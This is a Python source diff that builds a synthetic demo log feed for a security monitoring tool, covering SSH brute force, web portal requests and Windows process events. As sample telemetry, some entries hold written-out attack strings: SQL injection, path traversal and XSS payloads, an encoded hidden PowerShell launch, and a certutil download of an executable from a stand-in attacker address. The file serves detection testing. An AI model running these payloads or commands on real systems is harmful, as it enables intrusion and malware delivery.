@@ -1,0 +1,223 @@
+"""A demo feed of provincial logs, sent through the real syslog TCP listener.
+
+What a newcomer sees: SSH logins and a brute force on a data-centre server, requests to the
+public-service portal including attacks, and Windows process creation on an agency PC (NXLog
+JSON over syslog). Addresses are from the documentation ranges (RFC 5737), hosts are invented.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import logging
+import random
+from datetime import UTC, datetime, timedelta
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from canhgac.runtime import Runtime
+
+log = logging.getLogger(__name__)
+
+DC_SERVER = "tthdl-app01"  # Trung tâm Tích hợp dữ liệu
+PORTAL = "dichvucong-web01"  # Cổng Dịch vụ công
+AGENCY_PC = "STTTT-PC017"  # Sở Thông tin và Truyền thông
+ATTACKER = "203.0.113.66"
+SCANNER = "198.51.100.23"
+OFFICE_IPS = ["10.20.1.15", "10.20.1.22", "10.20.3.40"]
+CITIZEN_IPS = ["113.161.4.20", "14.232.10.8", "27.72.100.5", "116.96.44.2"]
+STAFF = ["nguyenvana", "tranthib", "lequangc", "phamthid"]
+
+
+def _rfc3164(ts: datetime, host: str, tag: str, msg: str, pri: int = 38) -> str:
+    # RFC 3164 timestamps carry no zone: senders in the province log in local time (UTC+7).
+    local = ts + timedelta(hours=7)
+    return f"<{pri}>{local.strftime('%b')} {local.day:2d} {local.strftime('%H:%M:%S')} {host} {tag}: {msg}"
+
+
+def _rfc5424(
+    ts: datetime, host: str, app: str, msg: str, pri: int = 134, procid: str = "-", sd: str = "-"
+) -> str:
+    stamp = ts.isoformat(timespec="milliseconds").replace("+00:00", "Z")
+    return f"<{pri}>1 {stamp} {host} {app} {procid} - {sd} {msg}"
+
+
+def ssh_lines(now: datetime, rng: random.Random) -> list[str]:
+    lines = []
+    for i, user in enumerate(STAFF[:2]):
+        ip = rng.choice(OFFICE_IPS)
+        lines.append(
+            _rfc3164(
+                now + timedelta(seconds=i),
+                DC_SERVER,
+                f"sshd[{2100 + i}]",
+                f"Accepted publickey for {user} from {ip} port {50000 + i} ssh2: RSA SHA256:k3yF1ngerPr1nt",
+            )
+        )
+    for i in range(8):
+        user = "root" if i % 2 else "admin"
+        lines.append(
+            _rfc3164(
+                now + timedelta(seconds=10 + i),
+                DC_SERVER,
+                f"sshd[{3100 + i}]",
+                f"Failed password for {user} from {ATTACKER} port {40000 + i} ssh2",
+                pri=38,
+            )
+        )
+    lines.append(
+        _rfc3164(
+            now + timedelta(seconds=20),
+            DC_SERVER,
+            "sshd[3120]",
+            f"Accepted password for root from {ATTACKER} port 40100 ssh2",
+        )
+    )
+    lines.append(
+        _rfc3164(
+            now + timedelta(seconds=22),
+            DC_SERVER,
+            "sudo",
+            "nguyenvana : TTY=pts/0 ; PWD=/home/nguyenvana ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
+        )
+    )
+    return lines
+
+
+def portal_lines(now: datetime, rng: random.Random) -> list[str]:
+    def access(ts: datetime, ip: str, method: str, path: str, status: int, ua: str) -> str:
+        local = ts + timedelta(hours=7)
+        clf = local.strftime("%d/%b/%Y:%H:%M:%S +0700")
+        size = rng.randint(300, 40000)
+        body = f'{ip} - - [{clf}] "{method} {path} HTTP/1.1" {status} {size} "-" "{ua}"'
+        return _rfc3164(ts, PORTAL, "nginx", body, pri=190)
+
+    browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
+    normal = [
+        "/",
+        "/dich-vu-cong/tra-cuu-ho-so?ma=HS2026-001234",
+        "/thu-tuc-hanh-chinh?linhvuc=dat-dai",
+        "/static/css/main.css",
+        "/tin-tuc/thong-bao-nghi-le",
+        "/dich-vu-cong/nop-ho-so",
+    ]
+    lines = [
+        access(now + timedelta(seconds=i), rng.choice(CITIZEN_IPS), "GET", rng.choice(normal), 200, browser)
+        for i in range(12)
+    ]
+    attacks = [
+        "/dich-vu-cong/tra-cuu-ho-so?ma=1'%20UNION%20SELECT%20username,password%20FROM%20users--",
+        "/thu-tuc-hanh-chinh?linhvuc=../../../../etc/passwd",
+        "/tin-tuc/tim-kiem?q=<script>alert(document.cookie)</script>",
+        "/dich-vu-cong/tra-cuu-ho-so?ma=1%20or%201=1",
+    ]
+    for i, path in enumerate(attacks):
+        lines.append(
+            access(
+                now + timedelta(seconds=20 + i),
+                SCANNER,
+                "GET",
+                path,
+                403,
+                "sqlmap/1.8.2#stable (https://sqlmap.org)",
+            )
+        )
+    return lines
+
+
+def windows_lines(now: datetime, rng: random.Random) -> list[str]:
+    def sysmon(ts: datetime, image: str, cmd: str, parent: str, user: str) -> str:
+        record = {
+            "EventTime": (ts + timedelta(hours=7)).strftime("%Y-%m-%d %H:%M:%S"),
+            "EventTimeUTC": ts.isoformat(timespec="seconds").replace("+00:00", "Z"),
+            "Hostname": AGENCY_PC,
+            "SourceName": "Microsoft-Windows-Sysmon",
+            "Channel": "Microsoft-Windows-Sysmon/Operational",
+            "EventID": 1,
+            "Image": image,
+            "CommandLine": cmd,
+            "ParentImage": parent,
+            "User": user,
+            "IntegrityLevel": "Medium",
+            "ProcessId": rng.randint(1000, 9000),
+            "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
+        }
+        return _rfc5424(ts, AGENCY_PC, "nxlog", json.dumps(record, ensure_ascii=False), pri=14)
+
+    user = "STTTT\\tranthib"
+    return [
+        sysmon(
+            now,
+            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            '"WINWORD.EXE" /n "C:\\Users\\tranthib\\Downloads\\CongVan_1234.docm"',
+            "C:\\Windows\\explorer.exe",
+            user,
+        ),
+        sysmon(
+            now + timedelta(seconds=3),
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            user,
+        ),
+        sysmon(
+            now + timedelta(seconds=5),
+            "C:\\Windows\\System32\\certutil.exe",
+            "certutil.exe -urlcache -split -f http://203.0.113.66/a.exe C:\\Users\\Public\\a.exe",
+            "C:\\Windows\\System32\\cmd.exe",
+            user,
+        ),
+        sysmon(
+            now + timedelta(seconds=8),
+            "C:\\Windows\\System32\\whoami.exe",
+            "whoami /all",
+            "C:\\Windows\\System32\\cmd.exe",
+            user,
+        ),
+    ]
+
+
+def demo_lines(now: datetime | None = None, seed: int | None = None) -> list[str]:
+    rng = random.Random(seed)
+    now = now or datetime.now(UTC)
+    return ssh_lines(now, rng) + portal_lines(now, rng) + windows_lines(now, rng)
+
+
+async def send_lines(host: str, port: int, lines: list[str], *, octet_counting: bool = False) -> int:
+    _reader, writer = await asyncio.open_connection(host, port)
+    try:
+        for line in lines:
+            data = line.encode("utf-8")
+            writer.write(f"{len(data)} ".encode() + data if octet_counting else data + b"\n")
+        await writer.drain()
+    finally:
+        writer.close()
+        await writer.wait_closed()
+    return len(lines)
+
+
+async def run_demo_loop(runtime: Runtime, interval_secs: float = 30.0) -> None:
+    s = runtime.settings
+    assert runtime.collector is not None and runtime.collector.port is not None, (
+        "demo needs the syslog collector"
+    )
+    port = runtime.collector.port
+    api = f"http://{s.api.host}:{s.api.port}"
+    print(
+        f"\nCanhgac is running. Demo feed -> syslog tcp://{s.collectors.syslog_tcp.host}:{port}\n"
+        f"  alerts:  curl -s {api}/api/v1/alerts | python -m json.tool\n"
+        f"  search:  curl -s -XPOST {api}/api/v1/events/search -H 'content-type: application/json' -d '{{\"query\": \"sshd\"}}'\n"
+        f"  API docs: {api}/docs   metrics: {api}/metrics   readiness: {api}/readyz\n"
+        "  Ctrl-C stops it (the pipeline drains first).\n",
+        flush=True,
+    )
+    while not runtime.stop_event.is_set():
+        try:
+            sent = await send_lines(s.collectors.syslog_tcp.host, port, demo_lines())
+            log.info("demo: sent %d lines", sent)
+        except OSError as exc:
+            log.warning("demo: could not send: %s", exc)
+        try:
+            await asyncio.wait_for(runtime.stop_event.wait(), timeout=interval_secs)
+        except TimeoutError:
+            continue
